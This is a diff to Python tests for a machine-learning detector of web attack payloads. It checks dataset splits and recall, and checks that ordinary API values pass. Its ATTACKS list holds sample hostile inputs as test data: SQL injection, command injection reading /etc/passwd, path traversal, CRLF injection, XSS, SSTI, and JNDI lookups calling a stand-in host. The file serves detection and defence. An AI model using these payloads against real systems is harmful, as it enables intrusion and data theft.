@@ -25,26 +25,44 @@ def trained():
     return ds, make_splits(ds, 0.2), fit_default(ds)
 
 
-def test_split_keeps_templates_on_one_side_and_adds_benign_symbols():
-    from features.payload import normalise, shape
+def test_split_keeps_templates_and_held_out_sources_on_one_side():
+    from features.payload import normalise, shape, split_context
+    from models.data import HELD_OUT_SOURCES
+    from models.payloads.corpus import ATTACK_CLASSES
     from models.search import make_splits
 
     ds = payload_dataset()
-    assert ds.X["payload"].map(normalise).is_unique  # deduplicated on the normal form
+    key = [f"{c}|{normalise(v)}" for c, v in map(split_context, ds.X["payload"])]
+    assert len(set(key)) == len(key)  # deduplicated on (context, normal form)
     sp = make_splits(ds, 0.2)
     g = ds.groups.to_numpy()
     assert not set(g[sp.train]) & set(g[sp.holdout])
     assert not set(g[sp.val]) & set(g[sp.holdout])
+    # whole sources are only ever evaluated on
+    only = np.flatnonzero(ds.source.isin(HELD_OUT_SOURCES).to_numpy())
+    assert len(only) > 1500 and set(only) <= set(sp.holdout)
+    assert not set(only) & set(sp.fit)
     # near-duplicates (same template, other digits) share a group
     assert shape("1' or 17=17 --") == shape("1' OR 4=4 --")
-    # the synthetic benign values are there, labelled benign, and hold the symbols
-    from models.payloads.benign import synthetic_benign
+    # every class the head must know, benign values in every part of a request
+    assert set(ds.detail) == {BENIGN, *ATTACK_CLASSES}
+    contexts = {c for c, _ in map(split_context, ds.X["payload"][ds.detail == BENIGN])}
+    assert {"param", "header", "user-agent", "cookie", "referer", "path", "body"} <= contexts
+    attack_contexts = {c for c, _ in map(split_context, ds.X["payload"][ds.detail != BENIGN])}
+    assert {"header", "user-agent", "cookie", "path"} <= attack_contexts
+    # the lists' harmless fragments are gone
+    raw = set(ds.X["payload"])
+    assert not {"'", "or", "select", "%00"} & raw
 
-    is_syn = ds.X["payload"].isin(set(synthetic_benign(3000)))
-    assert is_syn.sum() > 2900 and (ds.detail[is_syn] == BENIGN).all()
-    synthetic = ds.X["payload"][is_syn]
-    assert synthetic.str.contains("'").sum() > 300 and synthetic.str.contains("<").sum() > 100
-    assert ds.detail.value_counts()["sqli"] > 10_000
+
+def test_fragments_and_cookie_pairs():
+    from features.payload import cookie_pairs
+    from models.payloads.corpus import is_fragment
+
+    assert is_fragment("'") and is_fragment("or") and is_fragment("SELECT") and is_fragment("%00")
+    assert not is_fragment("1 UNION SELECT username, password FROM users")
+    assert not is_fragment("admin'--")
+    assert cookie_pairs('a=1; b="x%20y"; lone') == [("a", "1"), ("b", "x y"), ("", "lone")]
 
 
 def test_conflicting_labels_are_dropped(tmp_path):
@@ -57,9 +75,12 @@ def test_conflicting_labels_are_dropped(tmp_path):
         "<b>x</b>,xss\n"
         "world,norm\n"
     )
-    ds = payload_dataset(csv, synthetic_benign=0)
+    kw = {"synthetic_benign": 0, "api_benign": 0, "corpora": False, "access_log": False}
+    ds = payload_dataset(csv, scored_only=False, **kw)
     assert sorted(ds.X["payload"]) == ["<b>x</b>", "hello", "world"]
-    assert ds.y.tolist() == [0, 1, 0] or sorted(ds.y.tolist()) == [0, 0, 1]
+    assert sorted(ds.y.tolist()) == [0, 0, 1]
+    # plain words are never scored by the gateway, so they are not training data either
+    assert list(payload_dataset(csv, **kw).X["payload"]) == ["<b>x</b>"]
 
 
 def test_missing_columns_are_named(tmp_path):
@@ -71,7 +92,7 @@ def test_missing_columns_are_named(tmp_path):
         payload_dataset(csv)
 
 
-def test_held_out_attacks_caught_and_benign_symbols_pass(trained):
+def test_held_out_attacks_caught_and_benign_values_pass(trained):
     ds, sp, model = trained
     hold = sp.holdout
     vals = ds.X["payload"].to_numpy()[hold]
@@ -79,29 +100,75 @@ def test_held_out_attacks_caught_and_benign_symbols_pass(trained):
     verdicts = model.scan(list(vals))
     flagged = np.array([lab != "benign" for lab, _ in verdicts])
     attack = cls != BENIGN
-    assert flagged[attack].mean() > 0.99  # recall on templates never seen in training
+    assert flagged[attack].mean() > 0.93  # recall on templates and lists never trained on
+    for c in ("sqli", "xss", "path-traversal", "cmdi"):
+        assert flagged[cls == c].mean() > 0.9, c
     assert flagged[~attack].mean() <= 0.003  # benign false positives stay rare
     # the class head names the class of caught attacks
     named = np.array([lab for lab, _ in verdicts])[flagged & attack]
-    assert (named == cls[flagged & attack]).mean() > 0.95
-    # hand-written benign values with quotes, apostrophes, brackets and arithmetic; none is
-    # in the training data (synthetic templates included)
-    benign = [
-        "Conan O'Brien",
-        "Siobhán O'Brien-Smith",
-        "is 7 < 12 ?",
-        "what is 2+2?",
-        "I <3 this",
-        "5 > 3 apples",
-        "e = mc^2",
-        "it's <= 10 bucks",
-        'she said "hello"',
-        "Rock 'n' Roll",
-    ]
-    seen = set(ds.X["payload"])
-    assert not seen & set(benign)
-    out = model.scan(benign)
-    assert [lab for lab, _ in out] == ["benign"] * len(benign), list(zip(benign, out, strict=True))
+    assert (named == cls[flagged & attack]).mean() > 0.9
+
+
+# values a new user tried on 2026-12-04 (issue 25): ordinary API values that scored as attacks
+ORDINARY = [
+    ("param", "2026-11-02T10:00:00Z"),
+    ("param", "2026-11-02 10:00:00+01:00"),
+    ("param", '{"page":37,"per_page":50}'),
+    ("param", '{"filter": {"status": "open"}, "sort": "-created_at"}'),
+    ("header", "en-GB,en-US;q=0.8,en;q=0.6"),
+    ("header", "de-CH, de;q=0.9, en;q=0.8"),
+    ("param", "x" * 1999),
+    ("param", "=" * 300),
+    (
+        "user-agent",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/121.0.6167.85 Safari/537.36",
+    ),
+    ("user-agent", "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15"),
+    ("param", "Conan O'Brien"),
+    ("param", "Siobhán O'Brien-Smith"),
+    ("param", "is 7 < 12 ?"),
+    ("param", "I <3 this"),
+    ("param", 'she said "hello"'),
+    ("param", "Rock 'n' Roll"),
+    ("param", "def area(r): return 3.14 * r ** 2"),
+    ("body", "Dear team,\nthe order arrived late.\nRegards, Ann"),
+    ("cookie", "GA1.2.1234567.1700000000"),
+]
+# attacks in the styles the first scanner missed (issue 25)
+ATTACKS = [
+    ("param", "1 UNION SELECT username, password FROM users", "sqli"),
+    ("param", "1; DROP TABLE users", "sqli"),
+    ("param", "admin'--", "sqli"),
+    ("param", "Name' or 'Name'='Name", "sqli"),
+    ("param", "| whoami", "cmdi"),
+    ("param", "; cat /etc/passwd", "cmdi"),
+    ("param", "javascript:alert(1)", "xss"),
+    ("param", "foo%0d%0aSet-Cookie: admin=1", "crlf"),
+    ("param", 'bob%0a127.0.0.1 - admin [01/Jan/2026] "GET /admin" 200', "crlf"),
+    ("param", "${jndi:ldap://evil.example/a}", "jndi"),
+    ("param", "{{7*7}}", "ssti"),
+    ("param", '{"$ne": null}', "nosqli"),
+    ("path", "/api/v1/files/../../../etc/passwd", "path-traversal"),
+    ("user-agent", "${jndi:ldap://198.51.100.7:1389/Basic/Command}", "jndi"),
+    ("cookie", "1' or '1'='1", "sqli"),
+    ("header", "<script>alert(document.domain)</script>", "xss"),
+]
+
+
+def test_ordinary_api_values_pass_and_reported_attacks_are_named(trained):
+    from features.payload import in_context
+
+    _, _, model = trained
+    seen = set(trained[0].X["payload"])
+    ordinary = [in_context(c, v) for c, v in ORDINARY]
+    assert not seen & set(ordinary), seen & set(ordinary)  # none is a training value
+    out = model.scan(ordinary)
+    wrong = [(v[:60], o) for v, o in zip(ordinary, out, strict=True) if o[0] != "benign"]
+    assert not wrong, wrong
+    out = model.scan([in_context(c, v) for c, v, _ in ATTACKS])
+    got = [(v, o[0]) for (_, v, want), o in zip(ATTACKS, out, strict=True) if o[0] != want]
+    assert not got, got
 
 
 def _variants(value: str, rng: random.Random) -> list[str]:
@@ -129,11 +196,13 @@ def test_known_attacks_and_their_obfuscations_are_caught(trained):
         picked += [(vals[i], c) for i in rng.sample(list(idx), min(40, len(idx)))]
     plain = model.scan([v for v, _ in picked])
     caught = [(v, c) for (v, c), (lab, _) in zip(picked, plain, strict=True) if lab == c]
-    assert len(caught) >= 0.95 * len(picked)
+    assert len(caught) >= 0.9 * len(picked)
     variants = [(x, v, c) for v, c in caught for x in _variants(v, rng)]
     out = model.scan([x for x, _, _ in variants])
-    missed = [(v, x, lab) for (x, v, c), (lab, _) in zip(variants, out, strict=True) if lab != c]
+    missed = [(v, x) for (x, v, _), (lab, _) in zip(variants, out, strict=True) if lab == "benign"]
     assert not missed, missed[:5]
+    renamed = [lab != c for (_, _, c), (lab, _) in zip(variants, out, strict=True)]
+    assert np.mean(renamed) < 0.02  # and almost always under the same class
 
 
 def test_compact_export_gives_the_pipeline_numbers(trained, tmp_path):
